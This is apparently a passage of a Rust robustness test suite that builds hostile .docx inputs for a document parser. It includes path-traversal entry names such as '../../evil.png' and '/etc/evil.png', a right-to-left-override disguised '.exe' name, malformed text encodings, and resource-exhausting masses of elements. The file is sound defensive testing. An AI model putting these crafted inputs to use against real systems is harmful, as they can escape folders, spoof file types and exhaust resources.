    ]
}

/// Values without end.
fn huge_values() -> Vec<Hostile> {
    let long = "a".repeat(8_000_000);
    let many: String = (0..200_000).map(|at| format!(" w:a{at}=\"x\"")).collect();
    let change = format!("<w:p><w:ins w:id=\"1\" w:author=\"{long}\"><w:r><w:t>x</w:t></w:r></w:ins></w:p>");
    let styled = "<w:p><w:pPr><w:pStyle w:val=\"a\"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>".repeat(300);
    let style = format!(
        "<w:style w:type=\"paragraph\" w:styleId=\"a\"><w:name w:val=\"{long}\"/><w:rPr><w:rFonts w:ascii=\"{long}\"/><w:lang w:val=\"{long}\"/></w:rPr></w:style>"
    );
    let cell = |span: &str| {
        format!(
            "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val=\"{span}\"/></w:tcPr>{}</w:tc><w:tc>{}</w:tc></w:tr></w:tbl>",
            text("x"),
            text("y")
        )
    };
    vec![
        File::body(&change).named("huge-author"),
        File::body(&styled).with("styles", &style).named("huge-style"),
        File::body(&format!("<w:p{many}/>{}", text("x"))).named("many-attributes"),
        File::body(&text(&long)).named("huge-word"),
        File::body(&text(&"word ".repeat(1_500_000))).named("huge-paragraph"),
        File::body(&format!("<w:p><w:bookmarkStart w:id=\"1\" w:name=\"{long}\"/></w:p>{}", text("x"))).named("huge-bookmark"),
        File::body(&format!("<w:p><w:fldSimple w:instr=\"{long}\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>")).named("huge-field"),
        File::body(&format!("<w:p><w:r><w:drawing><wp:docPr descr=\"{long}\"/><a:blip r:embed=\"p\"/></w:drawing></w:r></w:p>")).named("huge-description"),
        File::body(&cell("2147483647")).named("span-largest"),
        File::body(&cell("-1")).named("span-negative"),
        File::body(&cell("63")).named("span-of-63"),
        File::body(&text("x")).with("comments", &format!("<w:comment w:id=\"4294967295\" w:author=\"{long}\">{}</w:comment>", text(&long))).named("huge-comment"),
        File::body(&format!("{}<w:sectPr><w:pgSz w:w=\"-99999999999\" w:h=\"x\"/><w:pgMar w:top=\"2147483647\" w:left=\"-2147483648\"/></w:sectPr>", text("x"))).named("page-sizes"),
        File::body("<w:p><w:pPr><w:ind w:left=\"2147483647\"/><w:outlineLvl w:val=\"255\"/></w:pPr><w:r><w:rPr><w:sz w:val=\"4294967295\"/></w:rPr><w:t>x</w:t></w:r></w:p>").named("measures"),
    ]
}

/// Names that lead out of folders, or stand twice.
fn names() -> Vec<Hostile> {
    let picture = "<w:p><w:r><w:drawing><a:blip r:embed=\"p\"/></w:drawing></w:r></w:p>";
    let author = std::fs::read(crate::support::root().join("tests/pictures/author.png")).expect("a picture");
    let mut all = Vec::new();
    for (at, name) in [
        "../../evil.png",
        "/etc/evil.png",
        "C:\\evil.png",
        "..\\..\\evil.png",
        "word/media/../../../evil.png",
        "word/media/\u{202E}gnp.exe",
        "word/media/a\0.png",
        "word/media/CON.png",
        "word/media/ .png",
    ]
    .into_iter()
    .enumerate()
    {
        let target = name.strip_prefix("word/").unwrap_or(name).replace('\0', "&#0;");
        all.push(
            File::body(picture).part(name, author.clone()).link("p", "image", &target, "").named(&format!("name-{at}")),
        );
    }
    let twice = |name: &str, other: &str| File::body(&text("first")).part(name, other.to_owned());
    let second = format!("<w:document {W}><w:body>{}</w:body></w:document>", text("second"));
    all.extend([
        twice("word/document.xml", &second).named("text-twice"),
        twice("WORD/Document.XML", &second).named("text-twice-in-capitals"),
        twice("word\\document.xml", &second).named("text-twice-with-backslash"),
        twice("_rels/.rels", "<Relationships/>").part("_rels/.rels", "<Relationships/>").named("relations-twice"),
        twice("[Content_Types].xml", "<Types/>").part("[Content_Types].xml", "<Types/>").named("types-twice"),
        File::body(picture).link("p", "image", "a.png", "").link("p", "image", "b.png", "").named("id-twice"),
        File::body(&text("x"))
            .with(
                "comments",
                &format!("<w:comment w:id=\"1\">{0}</w:comment><w:comment w:id=\"1\">{0}</w:comment>", text("x")),
            )
            .named("comment-twice"),
        File::body(&text("x")).part(&"n".repeat(65_000), "x").named("name-long"),
        File::body(&text("x")).part("word/", "x").part("word/document.xml/x", "x").named("folders-as-parts"),
    ]);
    all
}

/// Letters that are none.
fn letters() -> Vec<Hostile> {
    let main = |bytes: Vec<u8>| File::default().part("word/document.xml", bytes);
    let document = |words: &str| {
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?><w:document {W}><w:body>{}</w:body></w:document>",
            text(words)
        )
    };
    let wide = |words: &str, mark: bool, large_end_first: bool| {
        let mark = if mark { "\u{FEFF}" } else { "" };
        let units = format!("{mark}{}", document(words)).encode_utf16().collect::<Vec<u16>>();
        let pairs = units.into_iter().map(|unit| if large_end_first { unit.to_be_bytes() } else { unit.to_le_bytes() });
        pairs.flatten().collect::<Vec<u8>>()
    };
    let raw = |bytes: &[u8]| {
        let (before, after) = document("@").split_once('@').map(|(a, b)| (a.to_owned(), b.to_owned())).expect("a mark");
        [before.replace("UTF-16", "UTF-8").as_bytes(), bytes, after.as_bytes()].concat()
    };
    let mut odd = wide("x", true, false);
    odd.push(0);
    let mut torn = wide("@@", true, false);
    replace(&mut torn, &[b'@', 0, b'@', 0], &[0, 0xD8, 0, 0xD8]);
    let three = |words: &str| document(words).chars().flat_map(|c| u32::from(c).to_le_bytes()).collect::<Vec<u8>>();
    let signs = "\u{202E}\u{2066}\u{200F}\u{FEFF}\u{FFFC}\u{E000}\u{F0B7}\u{E0041}\u{FFFE}\u{1F1E6}a\u{301}";
    vec![
        main(wide("Grüße", true, false)).named("wide"),
        main(wide("Grüße", true, true)).named("wide-other-end"),
        main(wide("Grüße", false, false)).named("wide-without-mark"),
        main(wide("Grüße", false, true)).named("wide-other-end-without-mark"),
        main(odd).named("wide-odd"),
        main(torn).named("wide-torn"),
        main(three("x")).named("four-bytes-a-letter"),
        main(raw(b"\xFF\xFE\xFD")).named("no-letters"),
        main(raw(b"\xC0\xAF")).named("letter-too-long"),
        main(raw(b"\xED\xA0\x80")).named("half-a-letter"),
        main(raw(b"\xF4\x90\x80\x80")).named("past-the-last-letter"),
        main(raw(b"a\0b")).named("zero"),
        main(raw(b"\x01\x02\x1B[31m\x9B")).named("controls"),
        main(raw(signs.as_bytes())).named("signs-that-show-nothing"),
        main(raw("a\u{301}".repeat(20).as_bytes())).named("marks"),
        main(raw(format!("a{}", "\u{301}".repeat(5_000)).as_bytes())).named("marks-on-one-letter"),
        main(document("x").replace("UTF-16", "ISO-2022-JP").into_bytes()).named("said-to-be-japanese"),
        main([b"\xEF\xBB\xBF\xEF\xBB\xBF".as_slice(), document("x").as_bytes()].concat()).named("two-marks"),
        File::body(&text("x"))
            .part("word/styles.xml", b"\xFF\xFF".to_vec())
            .link("s", "styles", "styles.xml", "")
            .named("styles-no-letters"),
        File::body(&text("x")).part("word/_rels/document.xml.rels", b"\xFF".to_vec()).named("relations-no-letters"),
    ]
}

/// Very much of everything, in few bytes.
fn masses() -> Vec<Hostile> {
    let many = |one: &str, count: usize| File::body(&one.repeat(count));
    let field = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>REF a</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    let looks = "<w:r><w:rPr><w:b/></w:rPr><w:t>a</w:t></w:r><w:r><w:rPr><w:i/></w:rPr><w:t>b</w:t></w:r>";
    let cell = format!("<w:tc>{}</w:tc>", text("x"));
    let hidden = "<w:r><w:rPr><w:vanish/></w:rPr><w:t>h</w:t></w:r><w:r><w:pgNum/></w:r>";
    let marks: String = (0..30_000)
        .map(|at| format!("<w:p><w:r><w:t>x</w:t><w:footnoteReference w:id=\"{at}\"/></w:r></w:p>"))
        .collect();
    let notes: String = (0..30_000).map(|at| format!("<w:footnote w:id=\"{at}\">{}</w:footnote>", text("n"))).collect();
    let comments: String =
        (0..30_000).map(|at| format!("<w:comment w:id=\"{at}\" w:author=\"{at}\">{}</w:comment>", text("c"))).collect();
    let targets: String = (0..30_000)
        .map(|at| format!("<w:p><w:bookmarkStart w:id=\"{at}\" w:name=\"b{at}\"/><w:r><w:t>x</w:t></w:r></w:p>"))
        .collect();
    let lists: String = (0..20_000).map(|at| format!("<w:abstractNum w:abstractNumId=\"{at}\"><w:lvl w:ilvl=\"0\"><w:numFmt w:val=\"lowerLetter\"/><w:lvlText w:val=\"%1)\"/></w:lvl></w:abstractNum><w:num w:numId=\"{at}\"><w:abstractNumId w:val=\"{at}\"/></w:num>")).collect();
    let items: String = (0..20_000).map(|at| format!("<w:p><w:pPr><w:numPr><w:ilvl w:val=\"0\"/><w:numId w:val=\"{at}\"/></w:numPr><w:ind w:left=\"{at}\"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>")).collect();
    let heading = "<w:p><w:pPr><w:outlineLvl w:val=\"1\"/></w:pPr><w:r><w:t>Housing</w:t></w:r></w:p>";
    let changes = "<w:ins w:author=\"a\"><w:r><w:t>x</w:t></w:r></w:ins><w:del w:author=\"b\"><w:r><w:delText>y</w:delText></w:r></w:del>";
    vec![
        many("<w:p/>", 2_900_000).named("mass-of-empty-paragraphs"),
        many(&text("x"), 150_000).named("mass-of-paragraphs"),
        many(&text("A word or two of text."), 20_000).named("many-paragraphs"),
        File::body(&format!("<w:p>{}</w:p>", looks.repeat(100_000))).named("mass-of-looks"),
        File::body(&format!("<w:p>{}</w:p>", hidden.repeat(100_000))).named("mass-of-losses"),
        many(&format!("<w:p>{hidden}</w:p>"), 50_000).named("mass-of-told-paragraphs"),
        File::body(&format!("<w:p><w:bookmarkStart w:name=\"a\"/>{}</w:p>", field.repeat(50_000)))
            .named("mass-of-fields"),
        File::body(&format!("<w:p>{}</w:p>", changes.repeat(50_000))).named("mass-of-changes"),
        File::body(&format!("<w:tbl><w:tr>{}</w:tr></w:tbl>", cell.repeat(100_000))).named("mass-of-cells"),
        File::body(&format!("<w:tbl>{}</w:tbl>", format!("<w:tr>{cell}{cell}</w:tr>").repeat(30_000)))
            .named("mass-of-rows"),
        many(&format!("<w:tbl><w:tr>{cell}{cell}</w:tr></w:tbl>"), 30_000).named("mass-of-tables"),
        File::body(&marks).with("footnotes", &notes).named("mass-of-notes"),
        File::body(&text("x")).with("comments", &comments).named("mass-of-comments"),
        File::body(&targets).named("mass-of-bookmarks"),
        File::body(&items).with("numbering", &lists).named("mass-of-lists"),
        many(heading, 50_000).named("mass-of-headings"),
        File::body(&format!("<w:p>{}</w:p>", "<w:r><w:br/></w:r>".repeat(300_000))).named("mass-of-line-breaks"),
        File::body(&format!("<w:p>{}</w:p>", "<w:r><w:tab/><w:t>[1] *a* #</w:t></w:r>".repeat(100_000)))
            .named("mass-of-signs"),
        File::body(&"<w:sectPr/>".repeat(500_000)).named("mass-of-sections"),
    ]
}
